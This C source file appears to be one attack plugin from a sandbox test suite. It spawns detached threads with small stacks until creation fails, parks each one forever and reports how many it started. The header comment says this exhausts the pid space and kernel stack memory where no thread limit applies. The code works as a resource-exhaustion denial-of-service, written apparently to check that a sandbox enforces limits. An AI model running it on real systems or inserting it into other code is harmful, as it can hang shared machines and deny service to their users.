/*
 * proc_thread_bomb — starts threads with small stacks until pthread_create
 * fails, each parked forever, then reports how many it got. Threads are
 * processes to the kernel: without a thread limit this exhausts the pid space
 * and the memory for kernel stacks.
 */
#include "attack.h"

#include <pthread.h>

static void *park(void *arg)
{
    (void)arg;
    for (;;) {
        pause();
    }
    return NULL;
}

static sbx_status attack(const atk_input *in, atk_out *out)
{
    pthread_attr_t attr;
    long started = 0;
    int err = 0;
    (void)in;
    pthread_attr_init(&attr);
    pthread_attr_setstacksize(&attr, 64 * 1024);
    pthread_attr_setdetachstate(&attr, PTHREAD_CREATE_DETACHED);
    for (;;) {
        pthread_t thread;
        err = pthread_create(&thread, &attr, park, NULL);
        if (err != 0) {
            break;
        }
        started++;
    }
    pthread_attr_destroy(&attr);
    atk_printf(out, "started %ld threads before: %s\n", started, strerror(err));
    return SBX_OK;
}

ATK_INVOKE_PLUGIN(attack)
